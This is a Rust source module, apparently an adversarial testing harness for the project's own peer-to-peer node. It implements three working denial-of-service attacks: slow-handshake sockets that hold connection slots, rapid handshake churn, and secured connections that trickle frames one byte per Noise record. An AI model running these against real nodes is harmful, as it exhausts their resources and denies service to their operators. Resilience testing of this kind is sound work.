//! Attacks on the time a node gives a connection: sockets that hold a handshake slot while
//! sending nothing or a byte every few seconds, and secured connections whose frames arrive
//! a byte at a time.

use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::wire::{self, Counters, Writer};
use super::yamux::PING;
use super::{Target, workers};

/// Sockets held at once by the slow-handshake attack.
const SLOW_SOCKETS: u64 = 512;
/// Time between two bytes of a dripping socket.
const DRIP: Duration = Duration::from_secs(2);

/// How long a slow socket waits after the node dropped it before it connects again: the
/// slots are held, not churned (see [`handshake_churn`] for the other).
const HOLD_PAUSE: Duration = Duration::from_secs(1);

/// [`SLOW_SOCKETS`] TCP connections: half send nothing, half send the multistream-select
/// header and `/noise` proposal one byte every two seconds (then zeros). Each connects again
/// a second after the node drops it, so the node's handshake slots stay taken.
pub async fn slow_handshakes(target: Target, counters: Arc<Counters>) {
    slow_sockets(target, counters, HOLD_PAUSE).await
}

/// The sockets of [`slow_handshakes`], but each connects again at once (after the 20 ms of
/// [`workers`]) when dropped: thousands of new handshakes a second against a node that
/// drops slow ones, the churn a persistent attacker adds to holding slots.
pub async fn handshake_churn(target: Target, counters: Arc<Counters>) {
    slow_sockets(target, counters, Duration::ZERO).await
}

async fn slow_sockets(target: Target, counters: Arc<Counters>, pause: Duration) {
    workers(
        SLOW_SOCKETS,
        target,
        counters,
        move |index, target, counters| async move {
            let held = hold_slow_socket(index, &target, &counters).await;
            if held.is_err() {
                tokio::time::sleep(pause).await;
            }
            held
        },
    )
    .await
}

/// One slow socket, until the node drops it: silent for even `index`, dripping for odd.
async fn hold_slow_socket(index: u64, target: &Target, counters: &Counters) -> anyhow::Result<()> {
    let tcp = wire::connect_tcp(target, index).await?;
    Counters::add(&counters.connections, 1);
    let (mut reader, mut writer) = tcp.into_split();
    let drip = async {
        if index.is_multiple_of(2) {
            return std::future::pending().await;
        }
        let mut bytes =
            hyphae_core::multistream::Dialer::new(vec![hyphae_noise::PROTOCOL_ID.to_owned()])?
                .poll_transmit();
        bytes.resize(4096, 0);
        for byte in bytes {
            tokio::time::sleep(DRIP).await;
            writer.write_all(&[byte]).await?;
            Counters::add(&counters.units, 1);
            Counters::add(&counters.bytes, 1);
        }
        anyhow::Ok(())
    };
    let mut buffer = [0; 1024];
    tokio::select! {
        // The node's answer (its multistream header) is read; its close ends the round.
        _ = async { while let Ok(1..) = reader.read(&mut buffer).await {} } => {
            anyhow::bail!("the node closed the connection")
        }
        result = drip => result,
    }
}

/// Secured connections held by the trickle attack.
const TRICKLE_CONNECTIONS: u64 = 64;
/// Time between two one-byte records on one connection.
const TRICKLE: Duration = Duration::from_millis(100);

/// [`TRICKLE_CONNECTIONS`] secured connections, each sending ping-stream frames one byte per
/// Noise record, a record every 100 ms: the node pays a record's decryption and a wake-up
/// for every byte and must keep each partial frame.
pub async fn trickle(target: Target, counters: Arc<Counters>) {
    workers(
        TRICKLE_CONNECTIONS,
        target,
        counters,
        |index, target, counters| async move {
            let io = wire::secure(&target, index, &counters).await?;
            wire::while_draining(io, |writer| trickle_frames(writer, counters)).await
        },
    )
    .await
}

async fn trickle_frames(mut writer: Writer, counters: Arc<Counters>) -> anyhow::Result<()> {
    for id in (1..).step_by(2) {
        let mut frames = wire::open_stream_frame(id, PING, &[0; 32])?;
        frames.extend_from_slice(&wire::data_frame(id, &[0; 32])?);
        for byte in frames {
            // One byte per write and flush: NoiseStream seals each flush as its own record.
            wire::send(&mut writer, &[byte], &counters).await?;
            Counters::add(&counters.units, 1);
            tokio::time::sleep(TRICKLE).await;
        }
    }
    Ok(())
}
